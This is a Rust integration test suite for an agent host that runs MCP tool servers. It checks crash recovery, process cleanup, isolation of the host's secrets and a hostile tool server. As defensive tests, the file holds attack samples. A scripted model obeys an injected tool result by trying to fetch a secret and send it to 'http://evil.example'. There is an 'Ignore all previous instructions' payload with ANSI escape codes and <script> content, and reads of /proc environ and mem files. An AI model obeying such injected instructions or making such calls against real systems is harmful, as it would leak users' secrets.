//! Agents work with tool servers: real ones from npm, started by a real host, for a model that speaks a real wire.
//!
//! `CAISSON_KILLS` says how often the host is killed in the middle (CI: what fits in a minute), `CAISSON_SEED` where.
#![allow(missing_docs, clippy::unwrap_used, reason = "a failed unwrap is a failed test")]

mod support;
#[path = "support/web.rs"]
mod web;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};
use support::{Chance, Host, PATIENCE, Setup};
use web::{Latch, Seen, Web};

const WORKFLOW: &str = "
id: ask
states:
- {name: a, type: operation, action: agent.run, input: {agent: worker, task: '{{ task }}'}, end: true}";

/// The packages of `tests/mcp`, as its lock file pins them, below `target/`.
fn npm() -> &'static Path {
    static INSTALLED: OnceLock<PathBuf> = OnceLock::new();
    INSTALLED.get_or_init(|| {
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("mcp");
        fs::create_dir_all(&dir).unwrap();
        let lock = fs::read(pinned("package-lock.json")).unwrap();
        if fs::read(dir.join("installed")).ok() != Some(lock.clone()) {
            for name in ["package.json", "package-lock.json"] {
                fs::copy(pinned(name), dir.join(name)).unwrap();
            }
            let mut npm = Command::new("npm");
            npm.current_dir(&dir).args(["ci", "--ignore-scripts", "--no-audit", "--no-fund"]);
            npm.env("npm_config_cache", dir.join("cache")).env("npm_config_update_notifier", "false");
            let output = npm.output().unwrap();
            assert!(output.status.success(), "npm: {}", String::from_utf8_lossy(&output.stderr));
            fs::write(dir.join("installed"), lock).unwrap();
        }
        dir
    })
}

fn pinned(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/mcp").join(name).canonicalize().unwrap()
}

fn program(package: &str) -> PathBuf {
    npm().join("node_modules/@modelcontextprotocol").join(package).join("dist/index.js")
}

fn node() -> PathBuf {
    let path = std::env::var_os("PATH").unwrap();
    std::env::split_paths(&path).map(|dir| dir.join("node")).find(|path| path.is_file()).unwrap()
}

/// An environment with one agent, `worker`, of a model that is asked at `web`.
fn environment(dir: &Path, web: &Web, tools: &str, servers: &Value) -> Setup {
    let files = dir.join("environment");
    let write = |path: &str, text: &str| {
        fs::create_dir_all(files.join(path).parent().unwrap()).unwrap();
        fs::write(files.join(path), text).unwrap();
    };
    write("agents/worker.prompt", &format!("---\nmodel: fake/m\ntools: {tools}\n---\nYou work.\n"));
    write("models.toml", &format!("[providers.fake]\nkind = \"openai\"\nbaseUrl = \"{}\"\n", web.url("/v1")));
    write("mcp-servers/all.json", &json!({"mcpServers": servers}).to_string());
    Setup::new(dir).arg("--env", files.to_str().unwrap())
}

fn messages(seen: &Seen) -> Vec<Value> {
    let body: Value = serde_json::from_str(&seen.body).unwrap();
    body["messages"].as_array().unwrap().clone()
}

fn of_role<'a>(messages: &'a [Value], role: &str) -> Vec<&'a str> {
    let of = messages.iter().filter(|message| message["role"] == role);
    of.map(|message| message["content"].as_str().unwrap_or_default()).collect()
}

/// What a model says: calls of tools, or its answer.
fn says(calls: &[(&str, Value)], answer: &str) -> Value {
    let call = |(at, (name, arguments)): (usize, &(&str, Value))| json!({"id": format!("c{at}"), "type": "function", "function": {"name": name, "arguments": arguments.to_string()}});
    let calls: Vec<Value> = calls.iter().enumerate().map(call).collect();
    let message = if calls.is_empty() {
        json!({"role": "assistant", "content": answer})
    } else {
        json!({"role": "assistant", "content": null, "tool_calls": calls})
    };
    json!({"model": "m", "choices": [{"message": message}], "usage": {"prompt_tokens": 7, "completion_tokens": 3}})
}

async fn work(host: &Host, task: &str) -> Value {
    let run = host.start_run("ask", json!({"task": task})).await;
    let ended = host.end(&run).await;
    assert_eq!(ended["status"], "COMPLETED", "{ended:#}");
    ended
}

/// Results of tools, in order, as the model was told at last.
fn told(web: &Web) -> Vec<String> {
    let seen = web.seen();
    let messages = messages(seen.last().unwrap());
    of_role(&messages, "tool").into_iter().map(str::to_owned).collect()
}

/// Its task is a folder; it writes a file there, reads it, looks around, and reaches for what it has not.
fn librarian(seen: &Seen) -> Value {
    let messages = messages(seen);
    let folder = of_role(&messages, "user")[0].to_owned();
    let path = format!("{folder}/note.txt");
    match of_role(&messages, "assistant").len() {
        0 => says(
            &[
                ("everything__echo", json!({"message": "over MCP"})),
                ("files__write_file", json!({"path": path, "content": "written by a tool\n"})),
            ],
            "",
        ),
        1 => says(
            &[
                ("files__read_text_file", json!({"path": path})),
                ("everything__get-env", json!({})),
                ("everything__get-tiny-image", json!({})),
            ],
            "",
        ),
        2 => says(
            &[
                ("everything__get-sum", json!({"a": 1, "b": 2})),
                ("files__read_text_file", json!({"path": "/etc/hostname"})),
                ("everything__echo", json!({"massage": "over MCP"})),
            ],
            "",
        ),
        _ => says(&[], "{\"ok\": true}"),
    }
}

#[tokio::test]
async fn an_agent_works_with_real_servers() {
    let web = Web::answering(Duration::ZERO, librarian);
    let dir = tempfile::tempdir().unwrap();
    let shelf = dir.path().join("shelf");
    fs::create_dir(&shelf).unwrap();
    let servers = json!({
        "everything": {"command": node(), "args": [program("server-everything")], "env": {"DECLARED": "yes", "TOKEN": "{{secret:TOKEN}}"}},
        "files": {"command": node(), "args": [program("server-filesystem"), "."], "cwd": shelf},
    });
    fs::write(dir.path().join("secrets.toml"), "[default]\nTOKEN = \"correct horse battery\"\n").unwrap();
    let tools = "[everything.echo, everything.get-env, everything.get-tiny-image, 'files.*']";
    let setup = environment(dir.path(), &web, tools, &servers);
    let setup = setup.arg("--secrets-file", dir.path().join("secrets.toml").to_str().unwrap());
    let host = setup.start().await;
    host.save(WORKFLOW).await;
    let ended = work(&host, shelf.to_str().unwrap()).await;
    assert_eq!(ended["output"], json!({"ok": true}));
    assert_eq!(fs::read_to_string(shelf.join("note.txt")).unwrap(), "written by a tool\n");

    // The model is offered what the agent's file names.
    let first: Value = serde_json::from_str(&web.seen()[0].body).unwrap();
    let offered: Vec<&str> =
        first["tools"].as_array().unwrap().iter().map(|tool| tool["function"]["name"].as_str().unwrap()).collect();
    assert_eq!(offered.iter().filter(|name| name.starts_with("everything__")).count(), 3, "{offered:?}");
    assert!(offered.contains(&"files__read_text_file"), "{offered:?}");

    let told = told(&web);
    assert_eq!(told.len(), 8, "{told:#?}");
    assert_eq!(told[0], "Echo: over MCP");
    assert!(told[1].contains("Successfully wrote to"), "{}", told[1]);
    assert_eq!(told[2].trim_end(), "written by a tool");
    // Nothing of the host's environment, and what was declared; its secret is for the server and for nobody else.
    let env: Value = serde_json::from_str(&told[3]).unwrap();
    assert_eq!(env, json!({"PATH": "/usr/local/bin:/usr/bin:/bin", "DECLARED": "yes", "TOKEN": "[secret:TOKEN]"}));
    let image: Value = serde_json::from_str(&told[4]).unwrap();
    let picture = image["content"].as_array().unwrap().iter().find(|part| part["type"] == "image").unwrap();
    assert_eq!((&picture["mimeType"], picture.get("data")), (&json!("image/png"), None));
    assert!(picture["bytes"].as_u64().unwrap() > 100, "{picture}");
    assert!(told[5].starts_with("error: there is no tool 'everything__get-sum'"), "{}", told[5]);
    assert!(told[6].starts_with("error: tool 'files.read_text_file' failed"), "{}", told[6]);
    assert!(told[7].starts_with("error: "), "{}", told[7]);
}

const TURNS: usize = 8;

fn number(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|text| text.parse().ok()).unwrap_or(default)
}

/// Calls one tool after the other, each time with its task and turn.
fn counter(seen: &Seen) -> Value {
    let messages = messages(seen);
    let turn = of_role(&messages, "assistant").len();
    if turn + 1 == TURNS {
        return says(&[], "{\"ok\": true}");
    }
    says(&[("everything__echo", json!({"message": format!("{} {turn}", of_role(&messages, "user")[0])}))], "")
}

/// The turns of a task whose call reached the server: what was written to its standard input.
fn reached(wire: &Path, task: &str) -> Vec<usize> {
    let text = fs::read_to_string(wire).unwrap_or_default();
    let message = |line: &str| -> Option<String> {
        let line: Value = serde_json::from_str(line).ok()?;
        Some(line.pointer("/params/arguments/message")?.as_str()?.to_owned())
    };
    let turn = |message: String| message.strip_prefix(&format!("{task} "))?.parse().ok();
    text.lines().filter_map(message).filter_map(turn).collect()
}

/// Whatever the moment: a call whose result was recorded is not sent again, and at most the one that was under way goes out once more.
#[tokio::test]
async fn killed_in_the_middle_of_a_loop_no_recorded_call_is_sent_again() {
    let (kills, seed) = (number("CAISSON_KILLS", 5), number("CAISSON_SEED", 20_261_127));
    println!("{kills} kills from seed {seed}");
    let (mut chance, web) = (Chance(seed), Web::answering(Duration::from_millis(5), counter));
    let dir = tempfile::tempdir().unwrap();
    let wire = dir.path().join("wire");
    let line =
        format!("tee -a '{}' | '{}' '{}'", wire.display(), node().display(), program("server-everything").display());
    let servers = json!({"everything": {"command": "sh", "args": ["-c", line]}});
    let setup = environment(dir.path(), &web, "['everything.*']", &servers);
    let mut host = setup.start().await;
    host.save(WORKFLOW).await;
    let (mut killed, mut repeated, mut round) = (0, 0, 0);
    while killed < kills {
        round += 1;
        let task = format!("task{round}");
        let run = host.start_run("ask", json!({"task": task})).await;
        let hits = (1 + chance.below(3)).min(kills - killed);
        for _ in 0..hits {
            let more = usize::try_from(chance.below(TURNS as u64)).unwrap();
            let target = (reached(&wire, &task).len() + more).min(TURNS - 1);
            let deadline = Instant::now() + PATIENCE;
            while reached(&wire, &task).len() < target {
                assert!(Instant::now() < deadline, "{:?} calls came of {target}", reached(&wire, &task));
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
            tokio::time::sleep(Duration::from_micros(chance.below(8_000))).await;
            host.kill();
            host = setup.start().await;
        }
        killed += hits;
        let ended = host.end(&run).await;
        assert_eq!(ended["status"], "COMPLETED", "seed {seed}, round {round}: {ended:#}");
        let turns = reached(&wire, &task);
        assert!(turns.is_sorted(), "seed {seed}, round {round}: a recorded call was sent again: {turns:?}");
        let mut distinct = turns.clone();
        distinct.dedup();
        assert_eq!(distinct, (0..TURNS - 1).collect::<Vec<_>>(), "seed {seed}, round {round}");
        let extra = turns.len() - distinct.len();
        assert!(extra as u64 <= hits, "seed {seed}, round {round}: {turns:?} after {hits} kills");
        repeated += extra;
        let expected = format!(
            "{}answer: ",
            (0..TURNS - 1).map(|turn| format!("answer: |tool: Echo: {task} {turn}|")).collect::<Vec<_>>().concat()
        );
        let said = transcript(&host, &run).await;
        assert_eq!(said[3..].join("|"), expected + "{\"ok\": true}", "seed {seed}, round {round}");
    }
    println!("{killed} kills in {round} runs of {} calls: {repeated} calls went out twice", TURNS - 1);
}

/// What the one session of a run says, line by line, numbered without a gap.
async fn transcript(host: &Host, run: &str) -> Vec<String> {
    let sessions = host.all(&format!("/workflow-runs/{run}/sessions"), "sessions").await;
    assert_eq!(sessions.len(), 1, "{sessions:#?}");
    let path = format!("/workflow-runs/{run}/sessions/{}/logs", sessions[0]["id"].as_str().unwrap());
    let text = host.request(Method::GET, &path).send().await.unwrap().text().await.unwrap();
    let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let numbers: Vec<_> = lines.iter().map(|line| line["n"].as_u64().unwrap()).collect();
    assert_eq!(numbers, (1..=lines.len() as u64).collect::<Vec<_>>());
    let who = |line: &Value| match line["type"].as_str().unwrap() {
        "message" => line["role"].as_str().unwrap().to_owned(),
        other => other.to_owned(),
    };
    lines.iter().map(|line| format!("{}: {}", who(line), line["content"].as_str().unwrap_or_default())).collect()
}

/// The second turn has no answer until the test is over.
static SECOND_TURN: Latch = Latch::new();

fn stalling(seen: &Seen) -> Value {
    if of_role(&messages(seen), "assistant").is_empty() {
        return says(
            &[("s__text", json!({"text": "found it"})), ("s__fail", json!({})), ("s__big", json!({"bytes": 300_000}))],
            "",
        );
    }
    SECOND_TURN.pass();
    says(&[], "{\"ok\": true}")
}

/// What a tool said is in the transcript when the tool has said it, and stays there if nobody takes another turn; a turn adds none of it.
#[tokio::test]
async fn a_result_is_kept_although_its_step_is_cancelled_before_the_next_turn() {
    let web = Web::answering(Duration::ZERO, stalling);
    let dir = tempfile::tempdir().unwrap();
    let host = environment(dir.path(), &web, "['s.*']", &json!({"s": hostile("well")})).start().await;
    host.save(WORKFLOW).await;
    let run = host.start_run("ask", json!({"task": "look"})).await;
    let other = host.start_run("ask", json!({"task": "look"})).await;
    for run in [&run, &other] {
        host.until("the tools have answered", async || {
            let sessions = host.get(&format!("/workflow-runs/{run}/sessions")).await;
            sessions["sessions"][0]["lines"].as_u64() == Some(7)
        })
        .await;
    }
    host.post(&format!("/workflow-runs/{run}/cancel"), json!({})).await;
    assert_eq!(host.end(&run).await["status"], "CANCELLED");
    SECOND_TURN.open();
    assert_eq!(host.end(&other).await["status"], "COMPLETED");
    let cut = format!("tool: {}\n(cut: 300000 bytes in all)", "x".repeat(200_000));
    let expected = [
        "session: ",
        "system: You work.",
        "user: look",
        "answer: ",
        "tool: found it",
        "tool: error: no such thing",
        &cut,
    ];
    let said = transcript(&host, &run).await;
    assert_eq!(said[5].split(" failed: ").count(), 2, "{}", said[5]);
    let plain =
        |lines: &[String]| lines.iter().map(|line| line.replace("tool 's.fail' failed: ", "")).collect::<Vec<_>>();
    assert_eq!(plain(&said), expected);
    let said = transcript(&host, &other).await;
    assert_eq!(plain(&said[..7]), expected);
    assert_eq!(said[7..], ["answer: {\"ok\": true}"]);
}

fn hostile(mode: &str) -> Value {
    json!({"command": node(), "args": [pinned("hostile.mjs"), mode]})
}

/// Asks a server for its process and lets it start another one.
fn curious(seen: &Seen) -> Value {
    match of_role(&messages(seen), "assistant").len() {
        0 => says(&[("s__pid", json!({})), ("s__child", json!({}))], ""),
        _ => says(&[], "{\"ok\": true}"),
    }
}

fn is_alive(pid: &str) -> bool {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat"));
    // A zombie is dead.
    stat.is_ok_and(|stat| !stat.rsplit(')').next().unwrap_or_default().trim_start().starts_with('Z'))
}

/// The server ignores the end of its input and every signal that it can; what it started knows nothing of anybody.
#[tokio::test]
async fn nothing_of_a_tool_server_outlives_its_host() {
    for kill in [true, false] {
        let web = Web::answering(Duration::ZERO, curious);
        let dir = tempfile::tempdir().unwrap();
        let host = environment(dir.path(), &web, "['s.*']", &json!({"s": hostile("stay")})).start().await;
        host.save(WORKFLOW).await;
        work(&host, "look").await;
        let pids = told(&web);
        assert!(pids.len() == 2 && pids.iter().all(|pid| is_alive(pid)), "{pids:?}");
        if kill {
            host.kill();
        } else {
            assert_eq!(host.stop(), Some(0));
        }
        let deadline = Instant::now() + PATIENCE;
        while pids.iter().any(|pid| is_alive(pid)) {
            assert!(Instant::now() < deadline, "after {}: {pids:?}", if kill { "SIGKILL" } else { "SIGTERM" });
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
}

/// A process that hides nothing, with a variable, as a host is started.
fn open_process(value: &str) -> std::process::Child {
    let mut command = Command::new("sleep");
    if support::is_root() {
        command = Command::new(support::UNPRIVILEGED[0]);
        command.args(&support::UNPRIVILEGED[1..]).arg("sleep");
    }
    command.arg("600").env("CAISSON_TEST_VARIABLE", value).spawn().unwrap()
}

/// Reads files of processes: those that its task names.
fn prying(seen: &Seen) -> Value {
    let messages = messages(seen);
    let paths: Vec<&str> = of_role(&messages, "user")[0].split(' ').collect();
    let calls: Vec<(&str, Value)> = paths.iter().map(|path| ("s__read", json!({"path": path}))).collect();
    if of_role(&messages, "assistant").is_empty() { says(&calls, "") } else { says(&[], "{\"ok\": true}") }
}

/// A tool server is a program of the same user. It reads that user's files and other processes, and nothing of what is in its host.
#[tokio::test]
async fn a_tool_server_reads_neither_variables_nor_memory_of_its_host() {
    let web = Web::answering(Duration::ZERO, prying);
    let dir = tempfile::tempdir().unwrap();
    let setup = environment(dir.path(), &web, "[s.read]", &json!({"s": hostile("well")}));
    let host = setup.env("CAISSON_TEST_VARIABLE", SECRET).without_capabilities().start().await;
    let mut other = open_process(SECRET);
    host.save(WORKFLOW).await;
    let paths = [
        (other.id(), "environ"),
        (other.id(), "maps"),
        (host.pid(), "environ"),
        (host.pid(), "maps"),
        (host.pid(), "mem"),
    ];
    let paths = paths.map(|(pid, file)| format!("/proc/{pid}/{file}"));
    work(&host, &paths.join(" ")).await;
    let told = told(&web);
    other.kill().unwrap();
    other.wait().unwrap();
    assert!(
        told[0].contains(SECRET) && told[1].contains("stack"),
        "of a process that hides nothing it is read: {told:?}"
    );
    assert_eq!(told[2..], ["EACCES"; 3], "{paths:?}");
}

const SECRET: &str = "correct horse battery";

/// Reads what a server says, and does all of it.
fn gullible(seen: &Seen) -> Value {
    let messages = messages(seen);
    match of_role(&messages, "assistant").len() {
        0 => says(&[("s__injection", json!({}))], ""),
        1 => says(
            &[
                ("secrets__get", json!({"name": "TOKEN"})),
                ("http__send", json!({"url": "http://evil.example"})),
                ("agent__other", json!({"task": "help"})),
                // The server has it; the agent's file does not name it.
                ("s__env", json!({})),
                ("s__big", json!({"bytes": 5 << 20})),
            ],
            "",
        ),
        // And repeats it to whoever reads the result.
        _ => says(&[], of_role(&messages, "tool")[0]),
    }
}

/// A character that steers a terminal, or that changes what is read.
fn steers(c: char) -> bool {
    c.is_control() && c != '\n'
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// What a command prints, on both of its outputs, as text.
fn printed(host: &Host, args: &[&str]) -> (String, String) {
    let mut command = support::caisson(args);
    let output = command.env("CAISSON_SERVER", &host.url).env("CAISSON_KEY", &host.key).output().unwrap();
    let text = |bytes: &[u8]| {
        let text = String::from_utf8(bytes.to_vec()).unwrap();
        let bad: Vec<char> = text.chars().filter(|c| steers(*c)).collect();
        assert!(bad.is_empty(), "`caisson {}` prints {bad:?}: {text:?}", args.join(" "));
        text
    };
    (text(&output.stdout), text(&output.stderr))
}

/// It opens no capability, and reaches nobody's terminal as it came.
#[tokio::test]
async fn a_hostile_result_opens_nothing_and_steers_no_terminal() {
    let web = Web::answering(Duration::ZERO, gullible);
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("secrets.toml"), format!("[default]\nTOKEN = \"{SECRET}\"\n")).unwrap();
    let setup = environment(dir.path(), &web, "[s.injection, s.big]", &json!({"s": hostile("well")}));
    let setup = setup.arg("--secrets-file", dir.path().join("secrets.toml").to_str().unwrap());
    let host = setup.start().await;
    host.save(WORKFLOW).await;
    let ended = work(&host, "look").await;
    let injected = ended["output"]["result"].as_str().unwrap();
    assert!(injected.contains("\u{1b}[31mred") && injected.contains("<script>"), "{injected:?}");

    // Each refusal has its words, and the step went on.
    let told = told(&web);
    assert_eq!(told[0], injected);
    for (at, tool) in ["secrets__get", "http__send", "agent__other", "s__env"].iter().enumerate() {
        let expected = format!("error: there is no tool '{tool}' (there are: s.injection, s.big)");
        assert_eq!(told[at + 1], expected);
    }
    assert_eq!(told[5], "error: more than the 1048576 bytes that are allowed");
    assert!(web.seen().iter().all(|seen| !seen.body.contains(SECRET) && seen.path.starts_with("/v1/")));

    // Every way in which people read it.
    let id = ended["id"].as_str().unwrap();
    for args in [
        &["runs", "show", id][..],
        &["runs", "watch", id],
        &["runs", "list"],
        &["agents", "run", "worker", "--task", "look"],
        &["tools", "list"],
        &["tools", "show", "s"],
        &["workflows", "list"],
    ] {
        let (out, _) = printed(&host, args);
        assert!(!out.is_empty(), "{args:?}");
        let (json, _) = printed(&host, &[args, &["--json"][..]].concat());
        for line in json.lines() {
            serde_json::from_str::<Value>(line).unwrap_or_else(|error| panic!("{args:?}: {error}: {line}"));
        }
    }
    let (shown, _) = printed(&host, &["runs", "show", id]);
    assert!(shown.contains("Ignore all previous instructions"), "what it says is seen: {shown}");
    let (json, _) = printed(&host, &["runs", "show", id, "--json"]);
    let again: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(again["run"]["output"]["result"], json!(injected), "JSON is the same JSON");
    // An error that repeats what a server said.
    let (_, error) = printed(&host, &["tools", "show", "\u{1b}[31mred"]);
    assert!(error.contains("there is no tool server"), "{error}");

    // A browser that is sent there reads data, and nothing that it would run.
    for path in ["", "/steps", "/events", "/logs", "/stream", "?waitMs=1"] {
        let answer = host.request(Method::GET, &format!("/workflow-runs/{id}{path}")).send().await.unwrap();
        let header = |name: &str| answer.headers()[name].to_str().unwrap().to_owned();
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        let expected = if path == "/stream" { "text/event-stream" } else { "application/json" };
        assert!(header("content-type").starts_with(expected), "{path}: {}", header("content-type"));
    }
}

/// What happens to a server is told to the model, and to whoever looks.
#[tokio::test]
async fn an_operator_sees_how_servers_stand() {
    let web = Web::answering(Duration::ZERO, curious);
    let dir = tempfile::tempdir().unwrap();
    let servers = json!({"s": hostile("well"), "gone": {"command": "no-such-program"}});
    let host = environment(dir.path(), &web, "['s.*']", &servers).start().await;
    let states = async || -> Vec<(String, String)> {
        let list = host.get("/tool-servers").await;
        let of = |server: &Value, field: &str| server[field].as_str().unwrap().to_owned();
        list["servers"].as_array().unwrap().iter().map(|server| (of(server, "name"), of(server, "state"))).collect()
    };
    let pair = |name: &str, state: &str| (name.to_owned(), state.to_owned());
    assert_eq!(
        states().await,
        [pair("gone", "stopped"), pair("s", "stopped")],
        "nothing is started before it is needed"
    );
    host.save(WORKFLOW).await;
    work(&host, "look").await;
    assert_eq!(states().await, [pair("gone", "stopped"), pair("s", "running")]);

    let (status, answer) = host.send(Method::POST, "/tool-servers/gone/check", None).await;
    assert_eq!((status, &answer["error"]["code"]), (502, &json!("TOOL_SERVER_UNAVAILABLE")), "{answer}");
    host.until("its last words are there", async || {
        let list = host.get("/tool-servers").await;
        list["servers"][0]["problem"]
            .as_str()
            .is_some_and(|problem| problem.contains("failed to start 'no-such-program'"))
    })
    .await;
    let (status, answer) = host.send(Method::POST, "/tool-servers/gon/check", None).await;
    assert_eq!((status, &answer["error"]["code"]), (404, &json!("TOOL_SERVER_NOT_FOUND")), "{answer}");
    assert!(answer.to_string().contains("did you mean 'gone'?"), "{answer}");
    let (shown, _) = printed(&host, &["tools", "show", "s"]);
    assert!(shown.contains("s is running (process ") && shown.contains("s.injection"), "{shown}");

    // A file that is saved is in force in a moment, without a new start; a broken one changes nothing.
    let file = dir.path().join("environment/mcp-servers/all.json");
    fs::write(&file, json!({"mcpServers": {"other": hostile("well")}}).to_string()).unwrap();
    host.until("it is taken in", async || states().await == [pair("other", "stopped")]).await;
    host.until("and registered", async || {
        let shown = host.get("/environments/default").await;
        let all = shown["environment"]["registered"].as_array().unwrap().clone();
        all.iter().any(|one| one["kind"] == "mcp-server" && one["onDisk"] == "same" && one["version"] == 2)
    })
    .await;
    fs::write(&file, "{").unwrap();
    fs::write(file.with_file_name("one.json"), hostile("well").to_string()).unwrap();
    host.until("the one beside it is there", async || {
        states().await == [pair("one", "stopped"), pair("other", "stopped")]
    })
    .await;
}
